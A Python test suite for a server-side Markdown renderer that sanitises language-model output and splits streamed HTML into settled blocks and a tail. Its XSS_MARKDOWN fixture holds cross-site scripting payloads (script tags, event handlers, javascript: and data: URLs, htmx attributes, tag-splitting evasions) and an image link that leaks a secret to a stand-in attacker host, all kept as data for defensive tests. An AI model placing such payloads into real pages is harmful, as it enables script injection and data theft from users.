"""Server-side Markdown: sanitising model output and splitting settled blocks from the tail."""

from __future__ import annotations

from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from sse_llm._markdown import MarkdownRenderer, sanitize
from sse_llm.testing import DEFAULT_ANSWER, tokenize

#: Model output trying every way into the page we know of.
XSS_MARKDOWN = (
    "Hello <script>alert('s1')</script>\n\n"
    "<img src=x onerror=\"alert('s2')\">\n\n"
    "[click](javascript:alert('s3')) and [ok](https://example.com/a?b=1&c=2)\n\n"
    "<a href=\"javascript:alert('s4')\">raw</a> "
    "<svg onload=alert('s5')></svg> <iframe src=\"javascript:alert('s6')\"></iframe>\n\n"
    "![img](https://evil.example/leak?q=secret) "
    "[data](data:text/html,<script>alert(7)</script>)\n\n"
    '<div hx-get="/x" hx-on:click="alert(\'s8\')">htmx attrs</div>\n\n'
    "```html\n<script>alert('s9')</script>\n```\n\n"
    "<scr\nipt>alert('s10')</scr\nipt> <<script>script>alert('s11')<</script>/script>\n"
)


class _Audit(HTMLParser):
    """Collects every tag and attribute an HTML parser (like the browser's) sees."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend((tag, name, value) for name, value in attrs)


def audit(html: str) -> _Audit:
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser


def assert_safe(html: str) -> None:
    """No script-capable tag, no event handler or htmx attribute, no non-http(s)/mailto URL."""
    found = audit(html)
    allowed = {"a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6",
               "hr", "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th",
               "thead", "tr", "ul", "div"}  # fmt: skip
    assert set(found.tags) <= allowed, found.tags
    for tag, name, value in found.attrs:
        assert not name.startswith("on"), (tag, name)
        assert not name.startswith("hx-") or name == "hx-swap-oob", (tag, name)
        if name == "href":
            assert value is not None
            assert value.startswith(("http://", "https://", "mailto:")), value


def test_model_html_and_script_urls_never_survive_rendering() -> None:
    html = MarkdownRenderer().render(XSS_MARKDOWN)
    assert_safe(html)
    assert "<script" not in html and "<img" not in html and "<iframe" not in html
    # Escaped, the text is still shown to the reader.
    assert "&lt;script&gt;alert('s1')&lt;/script&gt;" in html


def test_links_get_noopener_nofollow_and_only_web_schemes() -> None:
    html = MarkdownRenderer().render(
        "[a](https://example.com) [b](mailto:x@example.com) [c](javascript:alert(1)) "
        "[d](vbscript:x) [e](ftp://example.com/f)"
    )
    assert '<a href="https://example.com" rel="noopener nofollow">a</a>' in html
    assert '<a href="mailto:x@example.com" rel="noopener nofollow">b</a>' in html
    assert "javascript:" not in html.replace("[c](javascript:alert(1))", "")
    assert "ftp:" not in audit(html).attrs.__repr__()


def test_sanitize_keeps_markdown_structure_and_language_classes_only() -> None:
    html = sanitize(
        '<pre><code class="language-python">x</code></pre><p class="evil" id="clobber" '
        'style="position:fixed">t</p><table><thead><tr><th style="x">h</th></tr></thead></table>'
    )
    assert '<code class="language-python">x</code>' in html
    assert "<p>t</p>" in html and "id=" not in html and "style=" not in html
    assert sanitize('<code class="language-py onmouseover">x</code>') == "<code>x</code>"


def replay_split(renderer: MarkdownRenderer, text: str, cuts: list[int]) -> str:
    """What a client shows after the renderer streamed ``text`` rendering at ``cuts``: every
    settled piece once, then the last tail."""
    settled = ""
    offset = 0
    tail = ""
    for cut in [*cuts, len(text)]:
        split = renderer.split(text[:cut], offset)
        settled += split.settled
        offset = split.offset
        tail = split.tail
    return settled + tail


def test_settled_blocks_plus_tail_equal_the_whole_render_for_the_demo_answer() -> None:
    renderer = MarkdownRenderer()
    text = DEFAULT_ANSWER.replace("{prompt}", "마크다운")
    ends = []
    position = 0
    for token in tokenize(text):
        position += len(token)
        ends.append(position)
    assert replay_split(renderer, text, ends) == renderer.render(text)


def test_a_closed_block_is_reported_once_and_the_tail_restarts_after_it() -> None:
    renderer = MarkdownRenderer()
    first = renderer.split("# Title\n\nA para")
    assert first.settled == "<h1>Title</h1>"
    assert first.tail == "<p>A para</p>"
    assert first.offset == len("# Title\n\n")
    second = renderer.split("# Title\n\nA paragraph\n\n- item", first.offset)
    assert second.settled == "<p>A paragraph</p>"
    assert second.tail == "<ul><li>item</li></ul>"


def test_newlines_between_blocks_are_dropped_but_text_newlines_are_kept() -> None:
    html = MarkdownRenderer().render(
        "# T\n\n- a\n- b\n\n1. x\n\n   y\n\n> q\n\n---\n\n| h |\n|---|\n| c |\n\n"
        "soft\nbreak *em*\n**strong**\n\n```\n<b>\n\nline\n```\n"
    )
    assert html == (
        "<h1>T</h1><ul><li>a</li><li>b</li></ul><ol><li><p>x</p><p>y</p></li></ol>"
        "<blockquote><p>q</p></blockquote><hr><table><thead><tr><th>h</th></tr></thead>"
        "<tbody><tr><td>c</td></tr></tbody></table>"
        # A soft break between inline elements is a space when shown: it stays.
        "<p>soft\nbreak <em>em</em>\n<strong>strong</strong></p>"
        "<pre><code>&lt;b&gt;\n\nline\n</code></pre>"
    )


def test_a_table_whose_delimiter_row_is_unfinished_settles_nothing_before_it() -> None:
    # "|---|-" makes a table that interrupts the paragraph; "|---|---| # H" is no delimiter
    # row, and both lines turn out to be lines of that paragraph (found by the property test
    # below).
    renderer = MarkdownRenderer()
    text = "| a | b |\n\t- nested\n| a | b |\n|---|---| # H\n"
    cut = text.index("|---|-") + len("|---|-")
    early = renderer.split(text[:cut])
    assert early.settled == "" and early.offset == 0
    assert "<table>" in early.tail  # a table, so far
    assert replay_split(renderer, text, [cut]) == renderer.render(text)
    assert "<table>" not in renderer.render(text)


def test_a_reference_definition_keeps_everything_in_the_tail() -> None:
    split = MarkdownRenderer().split("See [x].\n\nMore\n\n[x]: https://example.com\n")
    assert split.settled == "" and split.offset == 0
    assert 'href="https://example.com"' in split.tail


_MD_PIECES = st.sampled_from(
    ["# H", "para", "- a", "- b", "1. x", "2) y", "> q", "```", "~~~", "    code", "| a | b |",
     "|---|---|", "***", "text *em", "**", "[l](https://e.x)", "<b>", "&amp;", "\\", "  ", "",
     "한국어", "---", "===", "\t- nested", "  continued"]
)  # fmt: skip


@settings(max_examples=1500, deadline=None)
@given(
    lines=st.lists(_MD_PIECES, min_size=1, max_size=14),
    seps=st.lists(st.sampled_from(["\n", "\n\n", "\r\n", " "]), min_size=14, max_size=14),
    cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=12),
)
def test_progressive_splits_always_add_up_to_the_whole_render(
    lines: list[str], seps: list[str], cuts: list[int]
) -> None:
    text = "".join(line + sep for line, sep in zip(lines, seps, strict=False))
    renderer = MarkdownRenderer()
    points = sorted({min(c, len(text)) for c in cuts})
    assert replay_split(renderer, text, points) == renderer.render(text)


def test_a_block_on_the_unfinished_last_line_does_not_settle_the_one_before() -> None:
    # Found by the property test: "*" alone is an empty list item, but "**" is a lazy
    # continuation of the nested item above; the list must stay in the tail meanwhile.
    renderer = MarkdownRenderer()
    text = "para\n- a\n\n\t- nested\n**\n"
    assert replay_split(renderer, text, [21]) == renderer.render(text)
    for text, cut in (("para\n=\n", 6), ("| a | b |\n|-\n|---|---|\n", 11)):
        assert replay_split(renderer, text, [cut]) == renderer.render(text)
